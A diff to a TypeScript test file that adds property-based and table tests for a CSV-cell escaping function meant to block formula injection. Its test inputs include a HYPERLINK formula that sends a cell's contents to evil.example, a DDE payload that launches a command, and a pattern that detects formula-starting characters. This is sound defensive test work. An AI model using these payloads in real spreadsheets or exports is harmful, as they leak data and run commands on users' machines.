@@ -1,5 +1,5 @@
 import fc from "fast-check";
-import { forMarkdown, forTerminal } from "../../findings/escape";
+import { forCsv, forMarkdown, forTerminal } from "../../findings/escape";
 
 const RUN = { seed: 20_261_120, numRuns: 1000 };
 /** Controls, separators, and marks that turn the direction of what follows. */
@@ -89,5 +89,37 @@ describe("text for Markdown", () => {
   // GitHub makes a link of a www. after an underscore, where \b sees no boundary.
   it("begins no link by www. after an underscore", () => {
     expect(forMarkdown("_www.evil.example")).toBe("\\_www\u200b.evil.example");
+  });
+});
+
+describe("text for a CSV cell", () => {
+  const FORMULA = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/u;
+
+  it.each([
+    ["=HYPERLINK(\"https://evil.example?\"&A1)", "'=HYPERLINK(\"https://evil.example?\"&A1)"],
+    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+    ["-1+1", "'-1+1"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", "'\r=1+1"],
+    ["\n=1+1", "'\n=1+1"],
+    ["\u0000=1+1", "'\u0000=1+1"],
+    ["\uff1d1+1", "'\uff1d1+1"],
+    ["ann@contoso.com", "ann@contoso.com"],
+    ["1+1=2", "1+1=2"],
+    ["'=1+1", "'=1+1"],
+    ["", ""],
+  ])("is written of %j as %j", (text, written) => {
+    expect(forCsv(text)).toBe(written);
+  });
+
+  it("never begins a formula, and but for the apostrophe is as it was, whatever it is made of", () => {
+    fc.assert(
+      fc.property(glued(["=", "+", "-", "@", "\t", "\r", "\n", "\u0000", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'", "\u202e"]), (text) => {
+        expect(forCsv(text)).not.toMatch(FORMULA);
+        expect(forCsv(text)).toBe(FORMULA.test(text) ? `'${text}` : text);
+      }),
+      RUN,
+    );
   });
 });
